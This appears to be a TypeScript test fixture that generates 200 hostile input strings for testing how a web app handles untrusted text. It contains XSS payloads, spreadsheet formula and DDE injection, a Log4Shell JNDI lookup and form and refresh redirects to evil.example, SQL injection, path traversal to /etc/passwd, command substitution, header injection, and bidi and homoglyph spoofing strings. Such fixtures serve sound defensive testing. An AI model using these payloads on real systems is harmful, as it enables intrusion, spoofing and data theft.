/** What runs a script where a text is taken for markup: it calls `pwned`, which tests hand to the page. */
const markup: readonly string[] = [
  '<script>pwned()</script>',
  '</title><script>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<a href="javascript:pwned()">pulse aquí</a>',
  '"><img src=x onerror=pwned()>',
  "'><details open ontoggle=pwned()>",
  '</textarea><img src=x onerror=pwned()>',
  '</bdi></td></tr></table><h1>Validada</h1>',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=token>',
  '<object data="data:text/html,<script>pwned()</script>"></object>',
  '<math><mtext><img src=x onerror=pwned()></mtext></math>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '<!--<img src="--><img src=x onerror=pwned()>',
  'javascript:pwned()',
  'data:text/html,<script>pwned()</script>',
  '${pwned()}{{pwned()}}#{pwned()}<%= pwned() %>',
];

const formulas: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '=HYPERLINK("http://evil.example","x")',
  "=cmd|' /C calc'!A0",
  '"=1',
  '",=1',
  ';=1',
  '|=1',
  "'=1",
  ' =1',
  '\t=1',
  '\r\n=1',
  '\u200b=1',
  '＝1',
  '＋1',
  '−1',
  '＠SUM(A1)',
  '=IMPORTXML("http://evil.example","//a")',
];

/** Marks that turn the direction of writing, and scripts that are written so. */
const directions: readonly string[] = [
  '\u202egnp.exe',
  '\u202dabc\u202c',
  '\u2066isolate\u2069',
  '\u2067אבג',
  '\u2069\u2069\u202c\u202cend',
  '\u200fright',
  '\u061carabic',
  'abc\u202eadazahceR',
  'עברית: 123',
  'العربية ١٢٣',
  'ﷺﷺﷺ',
  '\u202a\u202b\u202d\u202e\u2066\u2067\u2068',
];

const hidden: readonly string[] = [
  '\u0000nul',
  '\u0007\u0008bell',
  '\u001b[31mred\u001b[0m',
  'a\r\nSet-Cookie: x=1',
  'a\nb\tc',
  '\u007f\u0085\u009b',
  '\u2028line\u2029',
  '\ufeff\u200b\u2060zero\u200dwidth',
  'soft\u00adhyphen',
  '\u{e0041}\u{e0042}tags',
  '\ue000private',
  '\ufff9note\ufffaof\ufffbit',
  'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b',
  'pаypаl', // two letters of it are Cyrillic
];

/** What a PDF, a template, a shell or a database might take for its own. */
const syntax: readonly string[] = [
  '(\\) /S /JavaScript /JS (app.alert\\(1\\)) >> endobj 1 0 obj << /OpenAction',
  'endstream endobj %%EOF xref startxref 0',
  '/ByteRange [0 1 2 3] /Contents <00>',
  '{"cotejoParts":[["page 1",0,1,"00"]]}',
  "'; DROP TABLE verification; --",
  '${jndi:ldap://evil.example/a}',
  '%s%n%x {name} {url} [LINK]',
  '../../../../etc/passwd',
  '`id` $(id) ; id | id',
  '__proto__',
  'constructor',
  'undefined null NaN',
  '王小明 Αλέξανδρος Дмитрий',
  '👩‍👩‍👧‍👦 🇪🇸 \u{1F600}',
  'x'.repeat(280),
];

const seeds = [...markup, ...formulas, ...directions, ...hidden, ...syntax];
const HOW_MANY = 200;

/**
 * Two hundred texts such as people, browsers and documents might send where a text is expected: each kind by itself, and two of them in a row.
 * Each ends in a mark of its own, `h007`, by which it is found on a page.
 */
export const hostileTexts: readonly string[] = Array.from({ length: HOW_MANY }, (_, number) => {
  const one = seeds[number % seeds.length]!;
  const other = number < seeds.length ? '' : ` ${seeds[(number * 7 + 3) % seeds.length]!}`;
  return `${one}${other} ${markOf(number)}`;
});

export function markOf(number: number): string {
  return `h${String(number).padStart(3, '0')}`;
}
